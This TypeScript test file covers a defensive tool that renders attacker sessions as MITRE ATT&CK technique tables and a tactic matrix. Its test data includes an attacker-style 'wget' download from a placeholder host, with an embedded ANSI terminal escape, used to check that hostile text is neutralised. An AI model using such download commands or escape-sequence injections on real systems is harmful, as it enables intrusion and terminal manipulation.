// SPDX-License-Identifier: AGPL-3.0-or-later
import { matrix } from './render-matrix';
import { renderResult, type ShownResult } from './render-result';

const cells = [
  { tactic: 'TA0007', tacticName: 'Discovery', id: 'T1082', count: 3 },
  { tactic: 'TA0002', tacticName: 'Execution', id: 'T1059.004', count: 2 },
  { tactic: 'TA0007', tacticName: 'Discovery', id: 'T1033', count: 12 },
];

describe('matrix', () => {
  it('puts tactics in the order of the ATT&CK matrix and techniques by count', () => {
    expect(matrix(cells, 80)).toBe(['Execution    Discovery', '───────────  ─────────', 'T1059.004 2  T1033 12', '             T1082 3', ''].join('\n'));
  });

  it('wraps to the width', () => {
    expect(matrix(cells, 15)).toBe(['Execution', '───────────', 'T1059.004 2', '', 'Discovery', '─────────', 'T1033 12', 'T1082 3', ''].join('\n'));
  });
});

const EVIDENCE = `wget http://192.0.2.1/\u001b[31m${'x'.repeat(100)}`;
const transfer = {
  id: 'T1105',
  name: 'Ingress Tool Transfer',
  tactic: 'Command and Control',
  confidence: 0.85,
  rules: ['R0012'],
  count: 1,
  evidence: () => EVIDENCE,
};
const sudo = {
  id: 'T1548.003',
  name: 'Abuse Elevation Control Mechanism: Sudo and Sudo Caching',
  tactic: 'Privilege Escalation',
  confidence: 0.75,
  rules: ['R0029'],
  count: 14,
  evidence: (room: number) => `sudo ${room}`,
};
const NOBODY = { addresses: 0, commands: 0, logins: 0, downloads: 0, uploads: 0 };
const aResult = (parts: Partial<ShownResult> = {}): ShownResult => {
  return { sessions: 3, attackers: [{ address: '192.0.2.7', techniques: [transfer, sudo] }], more: 0, others: NOBODY, cells, ...parts };
};

describe('renderResult', () => {
  it('puts evidence behind the facts, in the room that is left, with hostile text made harmless', () => {
    const lines = renderResult(aResult(), 160).split('\n');
    const wget = `wget http://192.0.2.1/\\u{1b}[31m${'x'.repeat(16)}…`;
    expect(lines.slice(0, 3)).toEqual([
      '192.0.2.7',
      `  T1105      Ingress Tool Transfer                                     Command and Control   0.85  ×1   R0012  ${wget}`,
      '  T1548.003  Abuse Elevation Control Mechanism: Sudo and Sudo Caching  Privilege Escalation  0.75  ×14  R0029  sudo 49',
    ]);
    expect(lines[1]).toHaveLength(160);
  });

  it('puts the evidence on a second line where there is no room, and cuts a name only when it must', () => {
    const lines = renderResult(aResult(), 80).split('\n');
    expect(lines.slice(0, 5)).toEqual([
      '192.0.2.7',
      '  T1105      Ingress Tool Transfer                              0.85  ×1   R0012',
      `             Command and Control   wget http://192.0.2.1/\\u{1b}[31m${'x'.repeat(12)}…`,
      '  T1548.003  Abuse Elevation Control Mechanism: Sudo and Sudo…  0.75  ×14  R0029',
      '             Privilege Escalation  sudo 45',
    ]);
    expect(Math.max(...lines.map((line) => line.length))).toBe(80);
    expect(renderResult(aResult(), 90)).toContain(`  ${sudo.id}  ${sudo.name}  0.75`);
  });

  it('never splits a character', () => {
    const smile = { ...transfer, evidence: () => '😀'.repeat(100) };
    const attackers = [{ address: '192.0.2.7', techniques: [smile] }];
    expect(renderResult(aResult({ attackers }), 161)).toMatch(/R0012 {2}(😀)+…\n/u);
  });

  it('says who is not listed and what the addresses without a technique did', () => {
    const others = { addresses: 60, commands: 0, logins: 9, downloads: 1, uploads: 3 };
    const theRest = '\n\n… and 2 more attackers with techniques\n\n60 more addresses without a technique (9 logins, 1 download, 3 uploads)\n\n';
    expect(renderResult(aResult({ more: 2, others }), 160)).toContain(theRest);
    expect(renderResult(aResult({ others: { ...NOBODY, addresses: 1 } }), 160)).toContain('\n1 more address without a technique\n');
  });

  it('says so where no technique is found', () => {
    const others = { ...NOBODY, addresses: 5, commands: 1, logins: 2 };
    const text = 'No technique found in 3 sessions from 5 addresses (1 command, 2 logins)\n';
    expect(renderResult(aResult({ attackers: [], others, cells: [] }), 80)).toBe(text);
  });
});
